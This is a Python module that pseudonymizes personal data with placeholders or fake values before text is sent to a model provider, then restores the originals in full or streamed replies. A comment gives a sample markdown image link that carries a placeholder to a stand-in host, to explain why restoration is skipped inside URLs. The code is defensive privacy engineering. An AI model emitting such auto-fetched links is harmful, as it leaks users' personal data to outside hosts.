"""Reversible pseudonymization: typed placeholders (or fake values), held in device memory only.

A ``PseudonymSession`` maps each detected value to a surface form: ``<PERSON_1>``
by default, or a realistic fake value (``style="fake"``). The same value always
gets the same surface form within a session, and ``restore`` maps them back.

Models rewrite placeholders: ``<PERSON_1>`` comes back as ``PERSON_1``, ``[PERSON_1]``
or "Person 1". Those spellings of an issued placeholder are restored too (``aliases``).

Look-alikes: text that already contains a placeholder-shaped string (or a surface form
or spelling this session issued) has that string escaped to its own
``<LITERAL_n>`` placeholder before it leaves. So every placeholder in an outgoing
payload was issued by this session for a known original, and a look-alike can
never be "restored" into someone's real data.
"""

from __future__ import annotations

import json
import re
import secrets
from collections import Counter
from collections.abc import Callable, Iterable, Sequence
from typing import Literal

from tether.privacy.detect import Span

PLACEHOLDER_SHAPE = re.compile(r"<[A-Z][A-Z0-9_]*_\d+>")
_ZERO_WIDTH = re.compile("[\u200b\u200c\u200d\u2060\ufeff\u00ad]")
LITERAL = "LITERAL"


def aliases(placeholder: str) -> list[str]:
    """How a model may write ``placeholder`` back: ``<EMAIL_ADDRESS_1>`` as ``EMAIL_ADDRESS_1``,
    ``[EMAIL_ADDRESS_1]`` or ``Email Address 1``."""
    core = placeholder[1:-1]
    kind, n = core.rsplit("_", 1)
    return [core, f"[{core}]", f"{kind.replace('_', ' ').title()} {n}"]
# Where nothing is restored: a URL (scheme://… or //host.…) up to whitespace, and a markdown link or
# image target "](…)". A markdown client fetches an image by itself, so a provider answering
# ![x](http://host/p.gif?d=<EMAIL_ADDRESS_1>) would otherwise receive the address.
_URL_OPEN = r"(?i:[a-z][a-z0-9+.\-]{0,31}://|\]\(|(?<![\w:/])//(?=[a-z0-9\-]+\.))"
# A markdown target in <…> and a quoted HTML src or href may hold spaces.
_MD_ANGLE = r"\]\([ \t]*<"
_ATTR = r"(?i:\b(?:src|href|srcset|poster|action)[ \t]*=[ \t]*)"
_URL = re.compile(rf"""{_MD_ANGLE}[^>\n]*|{_ATTR}(?:"[^"]*|'[^']*)|{_URL_OPEN}\S*""")
# In JSON text a string's closing quote or an escaped line break or tab ends it too (as whitespace
# ends it in the decoded string), so a streamed JSON answer restores what its decoded values would.
_URL_IN_JSON = re.compile(rf"""{_MD_ANGLE}[^>\n"]*|{_ATTR}(?:\\"(?:[^"\\]|\\[^"])*|'[^'"]*)"""
                          rf"""|{_URL_OPEN}(?:[^\s"\\]|\\[^nrt])*""")
_OPENER = re.compile(rf"""{_MD_ANGLE}|{_ATTR}(?:\\?"|')|{_URL_OPEN}""")


def _url_spans(text: str, json_text: bool = False) -> list[tuple[int, int]]:
    return [m.span() for m in (_URL_IN_JSON if json_text else _URL).finditer(text)]


def _url_context(text: str, json_text: bool) -> str:
    """A short text that scans like ``text`` for whatever follows it: inside a URL or not."""
    spans = _url_spans(text, json_text)
    if not spans or spans[-1][1] < len(text) - (json_text and text.endswith("\\")):  # not inside one
        return text[-40:]
    start = spans[-1][0]
    if len(text) - start <= 128:
        return text[start:]
    opener = _OPENER.match(text, start)
    head = opener.end() if opener else start
    tail = max(head, len(text) - 64)
    while json_text and tail < len(text) and text[tail - 1] == "\\":  # not between an escape's halves
        tail += 1
    # A bare "//" opens a URL only before "host.", which the cut may have dropped: keep one.
    host = "x." if text[start:head] == "//" and tail > head else ""
    return text[start:head] + host + text[tail:]
Style = Literal["placeholder", "fake"]
_MAX_TRIES = 25


def _fake_value(faker, entity_type: str) -> str | None:  # type: ignore[no-untyped-def]
    makers = {
        "PERSON": lambda: f"{faker.first_name()} {faker.last_name()}",  # two words: "Emma" maps to the first
        "EMAIL_ADDRESS": lambda: faker.email(safe=True),
        "PHONE_NUMBER": faker.phone_number,
        "CREDIT_CARD": faker.credit_card_number,
        "IBAN_CODE": faker.iban,
        "IP_ADDRESS": faker.ipv4_private,
        "US_SSN": faker.ssn,
        "STREET_ADDRESS": faker.street_address,
        "LOCATION": faker.city,
        "DATE_OF_BIRTH": lambda: faker.date_of_birth(minimum_age=18, maximum_age=90).strftime("%B %-d, %Y"),
        "ID_NUMBER": lambda: faker.bothify("??#######").upper(),
    }
    make = makers.get(entity_type)
    return make() if make else None


class PseudonymSession:
    """The per-session mapping. It lives in this object only: it cannot be pickled or printed."""

    def __init__(self, style: Style = "placeholder", *, fake_types: Iterable[str] | None = None):
        self.style = style
        self._fake_types = set(fake_types) if fake_types is not None else None
        self._forward: dict[tuple[str, str], str] = {}
        self._reverse: dict[str, str] = {}  # each issued surface form → its original
        self._surfaces: dict[str, str] = {}  # those and the placeholders' aliases → the original
        self._folded: dict[str, str] = {}  # the placeholders and their aliases in lower case → the original
        self._counters: Counter[str] = Counter()
        self._faker = None
        self._compiled: tuple[int, re.Pattern[str] | None] = (-1, None)
        self._prefixes: tuple[int, frozenset[str], int] = (-1, frozenset(), 0)
        # The text being sent, as placeholders are checked against it: (text, folded, {type: mentioned}),
        # so a text with a thousand entities is folded once, not once per new placeholder.
        self._avoiding: tuple[str, str, dict[str, bool]] = ("", "", {})
        self._reserved = ""  # the other texts of the same request (see ``reserve``)

    def __len__(self) -> int:
        return len(self._reverse)

    def __repr__(self) -> str:
        return f"PseudonymSession(style={self.style!r}, {len(self)} mapped values)"

    def __reduce__(self):  # type: ignore[no-untyped-def]
        raise TypeError("a PseudonymSession holds personal data and stays in device memory; it cannot be pickled")

    def clear(self) -> None:
        """Forget every mapping (end of the session)."""
        self._forward.clear()
        self._reverse.clear()
        self._surfaces.clear()
        self._folded.clear()
        self._counters.clear()
        self._compiled = (-1, None)  # keyed by mapping size, which a cleared session reaches again
        self._prefixes = (-1, frozenset(), 0)
        self._avoiding = ("", "", {})
        self._reserved = ""

    # ---- forward ------------------------------------------------------------------------

    def reserve(self, text: str, spans: Sequence[Span] = ()) -> None:
        """Declare a text that goes out with the ones pseudonymized next (a request's system prompt,
        schema and stop strings, each pseudonymized on its own): no new stand-in spells what it
        says (its own "Person 1" stays its own), and the full names among ``spans`` (the PERSON
        spans that will be replaced) are mapped now, so "Emma" in one text links to "Emma Johnson"
        in another. Call it for every text before pseudonymizing any of them."""
        self._reserved += text + "\n"
        avoid = self._reserved
        for s in sorted(spans, key=lambda s: s.start):
            if s.entity_type == "PERSON" and len(text[s.start:s.end].split()) > 1:
                self.surface("PERSON", text[s.start:s.end], avoid=avoid)

    def surface(self, entity_type: str, value: str, *, avoid: str = "") -> str:
        """The stable stand-in for ``value``; new ones never occur in ``avoid`` (the text being sent)."""
        key = (entity_type, value)
        if key in self._forward:
            return self._forward[key]
        out = None
        fake = self.style == "fake" and entity_type != LITERAL and (
            self._fake_types is None or entity_type in self._fake_types)
        if entity_type == "PERSON":
            out = self._name_part(value, avoid, fake)
        if out is None and fake:
            out = self._new_fake(entity_type, value, avoid)
        if out is None:
            out = self._new_placeholder(entity_type, avoid)
        self._forward[key] = out
        self._reverse[out] = value
        self._surfaces[out] = value
        if out.startswith("<"):
            self._folded.setdefault(out.lower(), value)
            for alias in aliases(out) if entity_type != LITERAL else ():
                self._surfaces.setdefault(alias, value)
                self._folded.setdefault(alias.lower(), value)
        return out

    def _name_part(self, value: str, avoid: str, fake: bool) -> str | None:
        """"Emma" after "Emma Johnson" (``<PERSON_1>``) is ``<GIVEN_NAME_OF_PERSON_1>``, "Johnson"
        ``<FAMILY_NAME_OF_PERSON_1>``; with fakes, the first or last word of that person's fake.
        A model that reads ``<PERSON_2>`` there takes one person for two ("PERSON_1 asks PERSON_2…"
        comes back as "Emma Johnson asks Emma…"). Only when one full name this session mapped
        has that first or last word."""
        word = value.casefold()
        if not word.isalpha() or len(word) < 2:
            return None
        parts: list[tuple[int, str]] = []  # (0 first word, -1 last word; the person's surface)
        for (etype, original), form in self._forward.items():
            words = original.casefold().split()
            if etype != "PERSON" or len(words) < 2 or form.startswith("<") == fake:
                continue
            if words[0] == word:
                parts.append((0, form))
            elif words[-1] == word:
                parts.append((-1, form))
        if len({form for _, form in parts}) != 1:
            return None  # no full name has it, or two do ("Emma Johnson" and "Emma Watson")
        at, form = parts[0]
        if fake:
            candidate = form.split()[at]
            if (not candidate.isalpha() or candidate.casefold() == word or candidate in self._reverse
                    or re.search(rf"(?<!\w){re.escape(candidate)}(?!\w)", avoid)
                    or any(candidate in original or original in candidate for _, original in self._forward)):
                return None
            return candidate
        if not form.startswith("<PERSON_"):
            return None
        candidate = f"<{'GIVEN' if at == 0 else 'FAMILY'}_NAME_OF_{form[1:]}"
        if candidate in self._reverse or re.sub(r"[_ ]", "", candidate[1:-1].casefold()) in \
                re.sub(r"[_ ]", "", _ZERO_WIDTH.sub("", avoid).casefold()):
            return None  # the text spells it itself: a numbered placeholder of its own instead
        return candidate

    def _new_placeholder(self, entity_type: str, avoid: str) -> str:
        # "PERSON_1" in any case or brackets ("[person_1]", "PERSON_1:") in the text means the
        # text already has its own PERSON_1; a reply about it must not come back as our value.
        if self._avoiding[0] is not avoid:
            self._avoiding = (avoid, _ZERO_WIDTH.sub("", avoid).casefold() if avoid else "", {})
        _, taken, mentioned = self._avoiding
        kind = re.escape(entity_type.casefold()).replace("_", "[_ ]")  # "person_1" or "person 1"
        if entity_type not in mentioned:  # most texts never spell "person_": then no number is taken
            mentioned[entity_type] = re.search(rf"{kind}[_ ]", taken) is not None
        while True:
            self._counters[entity_type] += 1
            core = f"{entity_type}_{self._counters[entity_type]}"
            candidate = f"<{core}>"
            if candidate in self._reverse:
                continue
            if mentioned[entity_type] and re.search(rf"(?<![a-z0-9_]){kind}[_ ]{self._counters[entity_type]}(?!\d)",
                                                    taken):
                continue  # "<PERSON_1>" or "Person 1" is in the text too: it folds to a mention
            return candidate

    def _new_fake(self, entity_type: str, value: str, avoid: str) -> str | None:
        if self._faker is None:
            from faker import Faker

            self._faker = Faker("en_US")
            self._faker.seed_instance(secrets.randbits(64))  # unpredictable to whoever receives the text
        for _ in range(_MAX_TRIES):
            candidate = _fake_value(self._faker, entity_type)
            if candidate is None:
                return None
            if (candidate != value and candidate not in self._reverse and candidate not in avoid
                    and not PLACEHOLDER_SHAPE.search(candidate)
                    and not any(candidate in k[1] or k[1] in candidate for k in self._forward)):
                return candidate
        return None

    def pseudonymize(self, text: str, spans: Sequence[Span], *, entity_types: Iterable[str] | None = None) -> str:
        """Replace ``spans`` (non-overlapping, as ``Detector.detect`` returns them) with surface forms.

        ``entity_types`` limits which spans are replaced (the policy's "pseudonymize" set);
        look-alikes are escaped regardless, so ``restore(pseudonymize(t)) == t`` always.
        """
        wanted = None if entity_types is None else set(entity_types)
        cuts = [(s.start, s.end, s.entity_type) for s in spans if wanted is None or s.entity_type in wanted]
        # Only a span being replaced hides a look-alike; one the policy lets through does not.
        cuts += [(a, b, LITERAL) for a, b in self._lookalikes(text) if not any(a < e and s < b for s, e, _ in cuts)]
        cuts.sort()
        avoid = self._reserved + text if self._reserved else text
        for start, end, etype in cuts:  # full names first, so "Emma" can point at "Emma Johnson" after it
            if etype == "PERSON" and len(text[start:end].split()) > 1:
                self.surface(etype, text[start:end], avoid=avoid)
        out, pos = [], 0
        for start, end, etype in cuts:
            if start < pos:
                raise ValueError("spans overlap; pass the output of Detector.detect")
            out.append(text[pos:start])
            out.append(self.surface(etype, text[start:end], avoid=avoid))
            pos = end
        out.append(text[pos:])
        return "".join(out)

    def _lookalikes(self, text: str) -> list[tuple[int, int]]:
        found = [m.span() for m in PLACEHOLDER_SHAPE.finditer(text)]
        if self._surfaces:  # a fake value or a placeholder's spelling this session issued
            rx = self._pattern()
            if rx is not None:
                found += [m.span() for m in rx.finditer(text)]
        found.sort()
        merged: list[tuple[int, int]] = []
        for a, b in found:
            if merged and a < merged[-1][1]:
                merged[-1] = (merged[-1][0], max(b, merged[-1][1]))
            else:
                merged.append((a, b))
        return merged

    # ---- backward -----------------------------------------------------------------------

    def _pattern(self) -> re.Pattern[str] | None:
        version, rx = self._compiled
        if version != len(self._surfaces):
            forms = sorted(self._surfaces, key=len, reverse=True)
            # Fake values must stand alone: "Ann Lee" inside "Ann Leeds" is not ours. A placeholder
            # is ours in any case ("<person_1>", "PERSON 1"): a model lower-cases or capitalises it.
            alts = [(re.escape(f) if f.startswith("<") else rf"(?<!\w){re.escape(f)}(?!\w)")
                    if self._is_fake(f) else
                    (f"(?ai:{re.escape(f)})" if f.startswith("<") else rf"(?<!\w)(?ai:{re.escape(f)})(?!\w)")
                    for f in forms]
            rx = re.compile("|".join(alts)) if alts else None
            self._compiled = (len(self._surfaces), rx)
        return rx

    def _is_fake(self, form: str) -> bool:
        return form in self._reverse and not form.startswith("<")

    def _original(self, form: str) -> str:
        """The original behind a surface form as the text spells it (a placeholder in any case)."""
        return self._surfaces[form] if form in self._surfaces else self._folded[form.lower()]

    def restore(self, text: str) -> str:
        """Put the originals back, in one pass (a restored value is never restored again), except
        inside a URL: a provider chooses those, and a client may fetch them unasked."""
        rx = self._pattern()
        if rx is None:
            return text
        urls = _url_spans(text)
        if not urls:
            return rx.sub(lambda m: self._original(m.group()), text)
        return rx.sub(lambda m: m.group() if _inside(m.start(), urls) else self._original(m.group()), text)

    def restorer(self, escape: Callable[[str], str] | None = None) -> StreamRestorer:
        """A stream restorer; ``escape`` rewrites each original as it goes back in (for JSON text:
        ``json_string_escape``, so a value with a quote or a line break keeps the JSON valid)."""
        return StreamRestorer(self, escape)

    def _holdback(self, buf: str) -> int:
        """Length of the longest tail of ``buf`` that could still grow into a surface form."""
        version, prefixes, longest = self._prefixes
        if version != len(self._surfaces):
            pre: set[str] = set()
            for f in self._surfaces:
                fake = self._is_fake(f)
                stop = len(f) + 1 if not f.startswith("<") else len(f)  # whole words: wait for the next char
                pre.update(f[:i] if fake else f[:i].lower() for i in range(1, stop))
            prefixes, longest = frozenset(pre), max((len(f) for f in self._surfaces), default=0)
            self._prefixes = (len(self._surfaces), prefixes, longest)
        for k in range(min(longest, len(buf)), 0, -1):
            tail = buf[-k:]
            if tail in prefixes or (tail.isascii() and tail.lower() in prefixes):
                return k
        return 0


def _inside(pos: int, spans: Sequence[tuple[int, int]]) -> bool:
    return any(a <= pos < b for a, b in spans)


def json_string_escape(value: str) -> str:
    """``value`` as it must appear inside a JSON string (quotes, backslashes, line breaks escaped)."""
    return json.dumps(value, ensure_ascii=False)[1:-1]


class StreamRestorer:
    """Restore a streamed response chunk by chunk, even when a placeholder is split across chunks.

    ``feed`` returns the text that is safe to show now; the tail that might be the
    start of a placeholder waits for the next chunk, and ``flush`` returns the rest.
    Joining every output equals ``session.restore(full_text)``. With ``json_string_escape`` the
    stream is read as JSON text, where a string's closing quote also ends a URL.
    """

    def __init__(self, session: PseudonymSession, escape: Callable[[str], str] | None = None):
        self._session = session
        self._escape = escape or (lambda value: value)
        self._json = escape is json_string_escape
        self._pending = ""
        self._before = ""  # last emitted character, for the word-boundary check on fakes
        self._url_ctx = ""  # the emitted text's tail, enough to tell whether a URL is open

    def feed(self, chunk: str) -> str:
        buf = self._pending + chunk
        cut = len(buf) - self._session._holdback(buf)
        return self._emit(buf, cut)

    def flush(self) -> str:
        buf, self._pending = self._pending, ""
        return self._emit(buf, len(buf))

    def _emit(self, buf: str, cut: int) -> str:
        rx = self._session._pattern()
        out, pos = [], 0
        if rx is not None:
            ctx = self._before
            uctx = self._url_ctx
            urls = [(a - len(uctx), b - len(uctx)) for a, b in _url_spans(uctx + buf, self._json)]
            for m in rx.finditer(ctx + buf, len(ctx)):
                start, end = m.start() - len(ctx), m.end() - len(ctx)
                if end > cut:
                    cut = min(cut, start) if start < cut else cut
                    break
                if _inside(start, urls):
                    continue
                out.append(buf[pos:start])
                out.append(self._escape(self._session._original(m.group())))
                pos = end
        out.append(buf[pos:cut])
        self._pending = buf[cut:]
        if cut > 0:
            self._before = buf[cut - 1]
            self._url_ctx = _url_context(self._url_ctx + buf[:cut], self._json)
        return "".join(out)
